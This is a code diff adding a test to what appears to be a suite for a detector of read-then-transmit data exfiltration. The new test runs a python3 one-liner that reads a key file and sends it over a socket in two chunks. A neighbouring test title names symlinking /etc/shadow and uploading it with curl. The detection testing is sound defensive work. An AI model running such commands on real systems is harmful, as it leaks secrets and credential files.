@@ -71,6 +71,21 @@ describe('live: read-then-transmit chains', () => {
     expect(f.coverage.lost_events).toBe(0);
   });
 
+  it('later sends of a chain are reported while the session runs: the updated finding leaves when the sender exits', async () => {
+    const r = await h.run(
+      'update-at-exit',
+      `python3 -c 'import socket, time; d = open("${key}", "rb").read(); s = socket.create_connection(("127.0.0.2", ${tcp.port})); s.sendall(d[:100]); time.sleep(0.3); s.sendall(d[100:250]); s.close()'`,
+    );
+    expect(r.code).toBe(0);
+    // two records of one finding: the first send at once, the counters of both at the sender's exit (same id, snapshots)
+    expect(r.findings.map((f) => [f.rule, f.sends, f.bytes_sent])).toEqual([
+      ['exfil.read-then-transmit', 1, 100],
+      ['exfil.read-then-transmit', 2, 250],
+    ]);
+    expect(r.findings[1]!.id).toBe(r.findings[0]!.id);
+    expect(r.findings[1]!.coverage.window_end_ns).toBeGreaterThan(r.findings[0]!.coverage.window_end_ns);
+  });
+
   it('a symlink does not hide the secret: cd DIR; ln -s /etc/shadow notes; curl -T notes (relative path)', async () => {
     const d = join(dir, 'links');
     mkdirSync(d, { recursive: true });
